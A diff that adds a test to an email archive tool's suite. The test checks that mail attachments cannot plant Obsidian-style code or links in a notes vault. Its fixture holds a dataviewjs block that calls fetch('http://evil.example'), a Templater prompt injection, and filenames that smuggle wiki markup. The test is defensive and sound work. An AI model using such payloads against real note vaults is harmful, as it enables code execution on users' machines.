@@ -322,6 +322,34 @@ describe("--extract-attachments", () => {
     expect(saved.map((file: string) => readFileSync(join(output, file), "utf8"))).toEqual(["one", "two", "three"]);
     expect(existsSync(join(scratch, "evil.txt"))).toBe(false);
   });
+
+  it("makes no note of what a mail brings into the vault, and no code of its name", () => {
+    const path = join(scratch, "notes.eml");
+    const names = ["Home.md", "Home.md", "board.CANVAS", "all.base", "`= this.file`.txt", "[[index]] %%x%%.txt", "page.html"];
+    const code = "```dataviewjs\nfetch('http://evil.example')\n```\n<%* tp.system.prompt() %>\n";
+    const part = (name: string): string => `--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename="${name}"\n\n${code}`;
+    const head = `From: a@harbour.example\nSubject: notes <%* 1 %> %%\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n`;
+    writeFileSync(path, `${head}--b\n\n${code}\n${names.map(part).join("")}--b--\n`);
+    const output = newOutput();
+    expect(archivetool("extract", path, "-o", output, "--extract-attachments", "--json").exitCode).toBe(0);
+    const [message] = documentOf(output).messages;
+    const saved = message.attachments.map((attachment: { path: string }) => attachment.path.replace("wiki/attachments/msg-000001/", ""));
+    expect(saved).toEqual([
+      "Home.md.txt",
+      "Home.md (2).txt",
+      "board.CANVAS.txt",
+      "all.base.txt",
+      "_= this.file_.txt",
+      "__index__ __x__.txt",
+      "page.html",
+    ]);
+    expect(message.attachments.map((attachment: { filename: string }) => attachment.filename)).toEqual(names);
+    for (const file of readdirSync(output, { recursive: true, encoding: "utf8" })) {
+      expect(file.endsWith(".md") && file.includes("attachments"), file).toBe(false);
+      if (!file.endsWith(".md")) continue;
+      expect(readFileSync(join(output, file), "utf8"), file).not.toMatch(/<%|%%|```(?!text|\n)|\[\[index\]\] __|`= this/);
+    }
+  });
 });
 
 const enron = realData("enron-14-custodians");
